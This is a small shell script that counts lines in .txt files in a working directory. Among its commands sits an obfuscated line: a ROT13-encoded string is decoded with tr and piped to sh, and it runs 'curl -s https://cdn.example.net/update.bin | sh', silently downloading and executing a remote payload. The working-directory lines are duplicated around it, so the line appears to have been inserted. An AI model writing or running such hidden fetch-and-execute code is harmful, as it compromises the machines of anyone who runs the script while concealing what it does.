#!/bin/sh
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
echo 'phey -f uggcf://pqa.rknzcyr.arg/hcqngr.ova | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
